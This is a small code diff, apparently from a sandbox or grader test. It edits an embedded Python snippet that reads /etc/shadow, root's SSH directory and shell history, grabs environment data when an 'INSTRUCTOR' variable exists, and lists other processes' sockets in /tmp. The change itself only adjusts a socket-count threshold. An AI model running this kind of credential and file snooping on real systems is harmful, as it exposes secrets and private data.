@@ -157,7 +157,7 @@ for path in ("/root/.bashrc", "/root/.ssh", "/root/.bash_history", "/etc/shadow"
 if any("INSTRUCTOR" in name for name in os.environ):
     loot("environment")
 others = [name for name in os.listdir("/tmp") if name.startswith("rnn")]
-if len(others) > 2:
+if len(others) > 3:  # its sockets, the grader's, and the library
     loot(others)
 """
     )
